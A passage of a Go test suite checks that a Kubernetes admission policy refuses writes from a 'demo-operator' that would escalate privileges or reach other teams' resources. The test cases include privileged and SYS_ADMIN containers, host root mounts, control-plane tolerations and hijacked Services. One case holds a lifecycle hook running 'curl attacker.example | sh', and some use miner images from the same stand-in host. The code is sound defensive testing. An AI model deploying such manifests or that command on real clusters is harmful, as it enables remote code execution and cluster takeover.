		"a privileged init container": {initContainer(func(c *corev1.Container) {
			c.SecurityContext.Privileged, c.SecurityContext.AllowPrivilegeEscalation = ptr.To(true), nil
		}), "privileged containers"},
		"a sidecar with SYS_ADMIN": {sidecar(func(c *corev1.Container) {
			c.SecurityContext.Capabilities = &corev1.Capabilities{Add: []corev1.Capability{"SYS_ADMIN"}}
		}), "add capabilities other than NET_BIND_SERVICE"},
		"a sidecar unconfined": {sidecar(func(c *corev1.Container) {
			c.SecurityContext.SeccompProfile = &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}
		}), "run seccomp Unconfined"},
		"a sidecar on a hostPort": {sidecar(func(c *corev1.Container) {
			c.Ports = []corev1.ContainerPort{{ContainerPort: 2375, HostPort: 2375}}
		}), "bind a hostPort"},
		"a sidecar with ports": {sidecar(func(c *corev1.Container) {
			c.Ports = []corev1.ContainerPort{{ContainerPort: 2375}}
		}), "containers set ports: no DemoApplication asks for it"},
		"a sidecar with a lifecycle hook": {sidecar(func(c *corev1.Container) {
			c.Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{
				Exec: &corev1.ExecAction{Command: []string{"/bin/sh", "-c", "curl attacker.example | sh"}}}}
		}), "containers set lifecycle: no DemoApplication asks for it"},
		"more than 8 init containers": {pod(func(p *corev1.PodTemplateSpec) {
			for i := range 8 {
				p.Spec.InitContainers = append(p.Spec.InitContainers, corev1.Container{Name: fmt.Sprintf("miner-%d", i), Image: "attacker.example/miner:1"})
			}
		}), "init containers are at most 8"},
		"a runtime class": {pod(func(p *corev1.PodTemplateSpec) { p.Spec.RuntimeClassName = ptr.To("unsandboxed") }),
			"set runtimeClassName: no DemoApplication asks for it"},
		"a system priority class": {pod(func(p *corev1.PodTemplateSpec) { p.Spec.PriorityClassName = "system-node-critical" }),
			"run at PriorityClass system-node-critical: the system- classes are the cluster's own"},
		"the app's LoadBalancer open to the world's ranges": {service(w.service, func(s *corev1.Service) {
			s.Spec.LoadBalancerSourceRanges = []string{"0.0.0.0/0"}
		}), "may not write a Service that sets loadBalancerSourceRanges"},
		"a PodDisruptionBudget over another's pods": {func() client.Object {
			b := w.budget.DeepCopy()
			b.Spec.Selector = &metav1.LabelSelector{MatchLabels: map[string]string{"app": "theirs"}}
			return b
		}, "a PodDisruptionBudget that selects its app's pods, by the app's labels alone"},
		"a PodDisruptionBudget over every pod of the namespace": {func() client.Object {
			b := w.budget.DeepCopy()
			b.Spec.Selector = &metav1.LabelSelector{}
			return b
		}, "a PodDisruptionBudget that selects its app's pods, by the app's labels alone"},
		"the app's Service with externalIPs": {service(w.service, func(s *corev1.Service) { s.Spec.ExternalIPs = []string{"203.0.113.1"} }),
			"may not write a Service that sets externalIPs"},
		"the app's Service selecting another's pods": {service(w.service, func(s *corev1.Service) { s.Spec.Selector = map[string]string{"app": "theirs"} }),
			"a Service that selects its app's pods, by the app's labels alone"},
		"a per-pod Service with externalIPs": {service(w.podService, func(s *corev1.Service) { s.Spec.ExternalIPs = []string{"203.0.113.1"} }),
			"may not write a Service that sets externalIPs"},
		"a per-pod Service open to the world's ranges": {service(w.podService, func(s *corev1.Service) {
			s.Spec.LoadBalancerSourceRanges = []string{"0.0.0.0/0"}
		}), "may not write a Service that sets loadBalancerSourceRanges"},
		"a per-pod Service selecting every pod of the app": {service(w.podService, func(s *corev1.Service) {
			delete(s.Spec.Selector, wellknown.DefaultPodNameLabel)
		}), "a per-pod Service that selects its pod alone"},
		"an HPA targeting another Deployment": {func() client.Object {
			a := w.autoscaler.DeepCopy()
			a.Spec.ScaleTargetRef.Name = theirs.Name
			return a
		}, "a HorizontalPodAutoscaler that scales the Deployment or the StatefulSet of its own name"},
		"an Ingress routing to another Service": {func() client.Object {
			i := w.ingress.DeepCopy()
			i.Spec.Rules[0].HTTP.Paths[0].Backend.Service.Name = "theirs"
			return i
		}, "an Ingress whose every backend is the Service of its own name"},
		"an Ingress with a default backend": {func() client.Object {
			i := w.ingress.DeepCopy()
			i.Spec.DefaultBackend = &networkingv1.IngressBackend{Service: &networkingv1.IngressServiceBackend{Name: "theirs",
				Port: networkingv1.ServiceBackendPort{Number: 80}}}
			return i
		}, "an Ingress whose every backend is the Service of its own name"},
		"an Ingress routing to a resource backend": {func() client.Object {
			i := w.ingress.DeepCopy()
			i.Spec.Rules[0].HTTP.Paths[0].Backend = networkingv1.IngressBackend{Resource: &corev1.TypedLocalObjectReference{
				APIGroup: ptr.To("example.com"), Kind: "Bucket", Name: "theirs"}}
			return i
		}, "an Ingress whose every backend is the Service of its own name"},
		"a NetworkPolicy selecting every pod of the namespace": {func() client.Object {
			p := w.policy.DeepCopy()
			p.Spec.PodSelector = metav1.LabelSelector{}
			return p
		}, "a NetworkPolicy that selects its app's pods by the app's labels alone"},
		"a NetworkPolicy cutting the app's egress": {func() client.Object {
			p := w.policy.DeepCopy()
			p.Spec.PolicyTypes = append(p.Spec.PolicyTypes, networkingv1.PolicyTypeEgress)
			return p
		}, "a NetworkPolicy that selects its app's pods by the app's labels alone, for Ingress alone"},
		"a NetworkPolicy letting in the world": {func() client.Object {
			p := w.policy.DeepCopy()
			p.Spec.Ingress[0].From = append(p.Spec.Ingress[0].From, networkingv1.NetworkPolicyPeer{IPBlock: &networkingv1.IPBlock{CIDR: "0.0.0.0/0"}})
			return p
		}, "whose every rule lets in pods it selects, not address blocks"},
		"a NetworkPolicy rule to every port": {func() client.Object {
			p := w.policy.DeepCopy()
			p.Spec.Ingress[0].Ports = nil
			return p
		}, "to the app's ports, not every port"},
		"a toleration of every taint, on the control plane": {pod(func(p *corev1.PodTemplateSpec) {
			p.Spec.Tolerations = append(p.Spec.Tolerations, corev1.Toleration{Operator: corev1.TolerationOpExists})
			p.Spec.NodeSelector = map[string]string{"node-role.kubernetes.io/control-plane": ""}
		}), "tolerate every taint or the control plane's"},
		"a toleration of the control plane's taint": {pod(func(p *corev1.PodTemplateSpec) {
			p.Spec.Tolerations = append(p.Spec.Tolerations, corev1.Toleration{Key: "node-role.kubernetes.io/control-plane",
				Operator: corev1.TolerationOpExists, Effect: corev1.TaintEffectNoSchedule})
		}), "tolerate every taint or the control plane's"},
		"a required anti-affinity against every pod of the cluster": {pod(func(p *corev1.PodTemplateSpec) {
			p.Spec.Affinity = &corev1.Affinity{PodAntiAffinity: &corev1.PodAntiAffinity{
				RequiredDuringSchedulingIgnoredDuringExecution: []corev1.PodAffinityTerm{{
					LabelSelector: &metav1.LabelSelector{}, NamespaceSelector: &metav1.LabelSelector{}, TopologyKey: "kubernetes.io/os"}}}}
		}), "keep apart from, or spread over, the app's own pods"},
		"a pod affinity to another's pods": {pod(func(p *corev1.PodTemplateSpec) {
			p.Spec.Affinity = &corev1.Affinity{PodAffinity: &corev1.PodAffinity{
				RequiredDuringSchedulingIgnoredDuringExecution: []corev1.PodAffinityTerm{{
					LabelSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": "theirs"}}, TopologyKey: "kubernetes.io/hostname"}}}}
		}), "have no pod affinity"},
		"a spread over another's pods": {pod(func(p *corev1.PodTemplateSpec) {
			p.Spec.TopologySpreadConstraints = []corev1.TopologySpreadConstraint{{MaxSkew: 1, TopologyKey: "kubernetes.io/hostname",
				WhenUnsatisfiable: corev1.DoNotSchedule, LabelSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": "theirs"}}}}
		}), "keep apart from, or spread over, the app's own pods"},
		"a PodDisruptionBudget that allows no disruption": {func() client.Object {
			b := w.budget.DeepCopy()
			b.Spec.MinAvailable, b.Spec.MaxUnavailable = nil, ptr.To(intstr.FromInt32(0))
			return b
		}, "a PodDisruptionBudget that allows a disruption"},
		"a PodDisruptionBudget keeping every pod": {func() client.Object {
			b := w.budget.DeepCopy()
			b.Spec.MinAvailable = ptr.To(intstr.FromString("100%"))
			return b
		}, "a PodDisruptionBudget that allows a disruption"},
		"a PodDisruptionBudget that keeps unhealthy pods": {func() client.Object {
			b := w.budget.DeepCopy()
			b.Spec.UnhealthyPodEvictionPolicy = ptr.To(policyv1.IfHealthyBudget)
			return b
		}, "evicts unhealthy pods (unhealthyPodEvictionPolicy AlwaysAllow)"},
		"a NetworkPolicy rule from anyone": {func() client.Object {
			p := w.policy.DeepCopy()
			p.Spec.Ingress = append(p.Spec.Ingress, networkingv1.NetworkPolicyIngressRule{})
			return p
		}, "whose every rule lets in pods it selects, not address blocks"},
		"an HTTPRoute routing to another Service": {func() client.Object {
			r := w.route.DeepCopy()
			r.Spec.Rules[0].BackendRefs[0].Name = gatewayv1.ObjectName(theirs.Name)
			return r
		}, "an HTTPRoute that attaches to Gateways and whose every backend is the Service of its own name"},
		"an HTTPRoute routing to a Service of another namespace": {func() client.Object {
			r := w.route.DeepCopy()
			r.Spec.Rules[0].BackendRefs[0].Namespace = ptr.To(gatewayv1.Namespace("kube-system"))
			return r
		}, "an HTTPRoute that attaches to Gateways and whose every backend is the Service of its own name"},
		"an HTTPRoute mirroring requests to another Service": {func() client.Object {
			r := w.route.DeepCopy()
			r.Spec.Rules[0].Filters = []gatewayv1.HTTPRouteFilter{{Type: gatewayv1.HTTPRouteFilterRequestMirror,
				RequestMirror: &gatewayv1.HTTPRequestMirrorFilter{BackendRef: gatewayv1.BackendObjectReference{
					Name: gatewayv1.ObjectName(theirs.Name), Port: ptr.To(gatewayv1.PortNumber(80))}}}}
			return r
		}, "without filters"},
		"an HTTPRoute attached to a Service (a mesh's parent)": {func() client.Object {
			r := w.route.DeepCopy()
			r.Spec.ParentRefs[1].Group, r.Spec.ParentRefs[1].Kind = ptr.To(gatewayv1.Group("")), ptr.To(gatewayv1.Kind("Service"))
			return r
		}, "an HTTPRoute that attaches to Gateways"},
		"the app's label naming another app": {func() client.Object {
			d := w.deployment.DeepCopy()
			d.Labels[wellknown.LabelApplication] = "theirs"
			return d
		}, "whose labels paas.cmft.com/demoapplication and app.kubernetes.io/name name their app, their own name"},
	} {
		t.Run(name, func(t *testing.T) {
			refused(NewWithT(t), write(attack.object(), asOperator), attack.msg)
		})
	}

	t.Run("a sidecar added under another field manager", func(t *testing.T) {
		g := NewWithT(t)
		d := w.deployment.DeepCopy()
		d.Spec.Template.Spec.Containers = append(d.Spec.Template.Spec.Containers, corev1.Container{Name: "miner", Image: "attacker.example/miner:1"})
		refused(g, write(d, client.FieldOwner("kubectl-edit")),
			"may write deployments only as field manager demo-operator or demo-operator-replicas-handover, not 'kubectl-edit'")
		// Any field, even one an app could ask for: the operator's next apply would not see it.
		d = w.deployment.DeepCopy()
		d.Spec.Template.Spec.Containers[0].Env = append(d.Spec.Template.Spec.Containers[0].Env, corev1.EnvVar{Name: "X", Value: "y"})
		refused(g, write(d), "only as field manager demo-operator")
	})
	t.Run("the controller's uid swapped", func(t *testing.T) {
		// Where OwnerReferencesPermissionEnforcement runs, the operator, which may not delete
		// Deployments, may not change their owners either; where it does not, the policy stops it.
		grant(t, rbacv1.PolicyRule{APIGroups: []string{"apps"}, Resources: []string{"deployments"}, Verbs: []string{"delete"}})
		d := w.deployment.DeepCopy()
		d.OwnerReferences[0].UID = "00000000-0000-0000-0000-000000000001"
		refused(NewWithT(t), write(d, asOperator), "may not change the uid of the controller reference")
	})
	t.Run("a second owner that outlives the controller", func(t *testing.T) {
		// Past OwnerReferencesPermissionEnforcement, which refuses a change of owners to a writer
		// that may not delete the object, where it runs.
		grant(t, rbacv1.PolicyRule{APIGroups: []string{"apps"}, Resources: []string{"deployments"}, Verbs: []string{"delete"}})
		d := w.deployment.DeepCopy()
		d.OwnerReferences = append(d.OwnerReferences, metav1.OwnerReference{APIVersion: "v1", Kind: "Namespace", Name: ns, UID: namespaceUID})
		refused(NewWithT(t), write(d, asOperator), "whose one owner reference is their controller")
	})
	t.Run("the scale subresource", func(t *testing.T) {
		grant(t, rbacv1.PolicyRule{APIGroups: []string{"apps"}, Resources: []string{"deployments/scale"}, Verbs: []string{"update"}})
		scale := &autoscalingv1.Scale{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: w.deployment.Name}, Spec: autoscalingv1.ScaleSpec{Replicas: 100}}
		refused(NewWithT(t), operator.SubResource("scale").Update(ctx, w.deployment.DeepCopy(), client.WithSubResourceBody(scale), client.DryRunAll, asOperator),
			"may not write the scale of deployments")
	})

	// The issue's: a Deployment in kube-system running as one of its ServiceAccounts, controlled
	// by a DemoApplication that does not exist; and the same, privileged, sharing the node's
	// network and root filesystem, with SYS_ADMIN, in kube-system and in the app's namespace.
	ghost := func(ns string, privileged bool) *appsv1.Deployment {
		d := renamed(w.deployment, ns, "ghost")
		d.Spec.Template.Spec.ServiceAccountName, d.Spec.Template.Spec.DeprecatedServiceAccount = "clusterrole-aggregation-controller", ""
		if privileged {
			d.Spec.Template.Spec.HostNetwork = true
			d.Spec.Template.Spec.Volumes = append(d.Spec.Template.Spec.Volumes, *root)
			c := &d.Spec.Template.Spec.Containers[0]
			c.SecurityContext = &corev1.SecurityContext{Privileged: ptr.To(true), Capabilities: &corev1.Capabilities{Add: []corev1.Capability{"SYS_ADMIN"}}}
			c.VolumeMounts = append(c.VolumeMounts, corev1.VolumeMount{Name: root.Name, MountPath: "/host"})
		}
		return d
	}
	t.Run("a Deployment in kube-system", func(t *testing.T) {
		g := NewWithT(t)
		refused(g, operator.Create(ctx, ghost(metav1.NamespaceSystem, false), asOperator), "may not write deployments in the cluster's own namespace kube-system")
		refused(g, operator.Create(ctx, ghost(metav1.NamespaceSystem, true), asOperator), "may not write deployments in the cluster's own namespace kube-system")
	})
	// The issue's: the same ghost outside the kube-* namespaces, in one the platform never
	// handed to applications (a GitOps controller's), kept alive by its Namespace as a second
	// owner so that the garbage collector never deletes it.
	t.Run("a Deployment in a namespace not handed to applications", func(t *testing.T) {
		g := NewWithT(t)
		closed := testenv.NewNamespace(t, admin, "gitops-", testenv.NotForApplications)
		d := ghost(closed, false)
		refused(g, operator.Create(ctx, d, asOperator), "only in namespaces labelled paas.cmft.com/applications=enabled, and "+closed+" is not")
		kept := ghost(ns, false)
		kept.OwnerReferences = append(kept.OwnerReferences, metav1.OwnerReference{APIVersion: "v1", Kind: "Namespace", Name: ns, UID: namespaceUID})
		refused(g, operator.Create(ctx, kept, asOperator), "whose one owner reference is their controller")
	})
	t.Run("a privileged hostPath:/ Deployment", func(t *testing.T) {
		refused(NewWithT(t), operator.Create(ctx, ghost(ns, true), asOperator), "pods use hostPath volumes")
	})

	t.Run("another's Deployment taken over, or deleted", func(t *testing.T) {
		g := NewWithT(t)
		// Past OwnerReferencesPermissionEnforcement, which refuses an owner set on what the
		// operator may not delete, where it runs.
		grant(t, rbacv1.PolicyRule{APIGroups: []string{"apps"}, Resources: []string{"deployments"}, Verbs: []string{"delete"}})
		taken := renamed(w.deployment, "", theirs.Name)
		taken.Spec = theirs.Spec
		refused(g, write(taken, asOperator), "may change or delete only the deployments controlled by DemoApplication (paas.cmft.com/v1) of their own name")
		refused(g, operator.Delete(ctx, theirs, client.DryRunAll), "may change or delete only the deployments controlled by DemoApplication "+
			"(paas.cmft.com/v1) of their own name")
	})

	t.Run("a Deployment in the operator's namespace running as the operator", func(t *testing.T) {
		g := NewWithT(t)
		d := renamed(w.deployment, testenv.OperatorNamespace, "web")
		d.Spec.Template.Spec.ServiceAccountName, d.Spec.Template.Spec.DeprecatedServiceAccount = testenv.OperatorServiceAccount, ""
		refused(g, operator.Create(ctx, d.DeepCopy(), asOperator), "only in namespaces labelled paas.cmft.com/applications=enabled")
		// Even where the platform, by mistake, hands the operator's namespace to applications.
		testenv.HandOver(t, admin, testenv.OperatorNamespace)
		g.Eventually(func(g Gomega) {
			refused(g, operator.Create(ctx, d.DeepCopy(), asOperator), "run as its own ServiceAccount")
		}, 30*time.Second).Should(Succeed())
	})

	// The issue's: a LoadBalancer or externalIPs Service "controlled" by any pod, here another
	// team's in the app's namespace.
	victim := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "db-0", Labels: map[string]string{"app": "db"}},
		Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "db", Image: "registry.example/db:1"}}}}
	g.Expect(admin.Create(ctx, victim)).To(Succeed())
	exposed := func(change func(*corev1.Service)) func() client.Object {
		return func() client.Object {
			s := forCreate(w.podService, "", victim.Name)
			s.OwnerReferences[0].UID = victim.UID
			s.Labels[wellknown.LabelName], s.Labels[wellknown.LabelApplication] = w.app.Name, w.app.Name
			s.Labels[wellknown.LabelPodService] = victim.Name
			s.Spec.Selector[wellknown.DefaultPodNameLabel] = victim.Name
			s.Spec.ClusterIP, s.Spec.ClusterIPs = "", nil
			for i := range s.Spec.Ports {
				s.Spec.Ports[i].NodePort = 0
			}
			change(s)
			return s
		}
	}

	// Objects the operator never creates, each like one of its own but for one thing.
	for name, attack := range map[string]struct {
		object func() client.Object
		msg    string
	}{
		"a Deployment named otherwise than its controller": {func() client.Object {
			d := renamed(w.deployment, "", "api")
			d.OwnerReferences[0].Name = w.app.Name
			return d
		}, "that one controller reference ties to the DemoApplication (paas.cmft.com/v1) of their own name"},
		"a Deployment controlled by another version of DemoApplication": {func() client.Object {
			d := renamed(w.deployment, "", "api")
			d.OwnerReferences[0].APIVersion, d.OwnerReferences[0].BlockOwnerDeletion = "paas.cmft.com/v2", nil
			return d
		}, "that one controller reference ties to the DemoApplication (paas.cmft.com/v1) of their own name"},
		"a Deployment controlled by no one": {func() client.Object {
			d := renamed(w.deployment, "", "api")
			d.OwnerReferences = nil
			return d
		}, "controlled by DemoApplication (paas.cmft.com/v1)"},
		"a Deployment the operator would not label": {func() client.Object {
			d := renamed(w.deployment, "", "api")
			delete(d.Labels, wellknown.LabelManagedBy)
			return d
		}, "labelled app.kubernetes.io/managed-by=demo-operator"},
		"a Deployment selecting another app's pods": {func() client.Object {
			// The app web's selector, on the Deployment of app api.
			return forCreate(w.deployment, "", "api")
		}, "a Deployment that selects its app's pods, by the app's labels alone"},
		"an ExternalName Service": {func() client.Object {
			s := forCreate(w.service, "", "api")
			s.Spec = corev1.ServiceSpec{Type: corev1.ServiceTypeExternalName, ExternalName: "kubernetes.default.svc.cluster.local",
				Selector: map[string]string{wellknown.LabelName: "api", wellknown.LabelApplication: "api"}}
			return s
		}, "Service of type ExternalName"},
		"a LoadBalancer Service for another's pod, by its labels": {exposed(func(s *corev1.Service) {
			s.Spec.Selector = victim.Labels
		}), "a per-pod Service that selects its pod alone, by the app's labels and padok.fr/pod-name"},
		"an externalIPs Service for another's pod": {exposed(func(s *corev1.Service) {
			s.Spec.ExternalIPs = []string{"203.0.113.1"}
		}), "may not write a Service that sets externalIPs"},
		"a per-pod Service of another load-balancer class": {exposed(func(s *corev1.Service) {
			s.Spec.LoadBalancerClass = ptr.To("example.com/internet-facing")
		}), "may not write a Service that sets loadBalancerClass"},
		"an HPA scaling a Deployment of another name": {func() client.Object {
			a := forCreate(w.autoscaler, "", theirs.Name)
			a.Spec.ScaleTargetRef.Name = "web"
			return a
		}, "a HorizontalPodAutoscaler that scales the Deployment or the StatefulSet of its own name"},
	} {
		t.Run(name, func(t *testing.T) {
			refused(NewWithT(t), operator.Create(ctx, attack.object(), asOperator), attack.msg)
		})
	}
}
